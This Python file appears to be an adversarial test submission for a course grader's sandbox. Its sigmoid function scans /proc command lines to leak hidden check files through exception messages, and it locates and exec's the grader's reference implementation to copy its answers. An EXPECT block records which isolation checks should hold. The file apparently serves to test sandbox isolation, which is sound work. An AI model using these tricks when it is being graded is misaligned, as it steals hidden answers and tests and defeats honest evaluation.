"""The grader's secrets: the course's reference sigmoid imported from the installed
nnlab (or read from its file), and any check file named on an ancestor's command line,
whose source would be put in the messages. The child's mount view covers nnlab and the
checks, and its /proc shows only its own processes. A reference found would make
sigmoid honest."""

# ruff: noqa
EXPECT = {
    "status": "partial",
    "checks": {"attack_sigmoid_values": "failed", "attack_relu_still_graded": "passed"},
    "root_only": True,
    "hidden": True,
}

import glob
import os

import numpy as np


def _reference():
    try:
        from nnlab.resources import grader_dir

        path = os.path.join(str(grader_dir()), "reference", "activations.py")
    except Exception:
        path = None
    for candidate in [path, *glob.glob("/work/*/grader/reference/activations.py")]:
        try:
            with open(candidate) as handle:
                source = handle.read()
        except (OSError, TypeError):
            continue
        found = {}
        exec(compile(source, candidate, "exec"), found)
        if "sigmoid" in found:
            return found["sigmoid"]
    return None


def _checks_source():
    """Check files named on any visible command line (pytest's, nnlab's --checks)."""
    found = []
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as handle:
                words = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for word in words:
            for path in glob.glob(os.path.join(word, "*.py")) + glob.glob(
                os.path.join(os.path.dirname(word), "attacks", "checks", "*.py")
            ):
                try:
                    with open(path) as handle:
                        found.append(handle.read())
                except OSError:
                    pass
    return "\n".join(found)


def sigmoid(z):
    leaked = _checks_source()
    if "def test_attack" in leaked:
        raise ValueError(leaked[:1500])
    honest = _reference()
    if honest is not None:
        return honest(z)
    return np.zeros(np.shape(z))
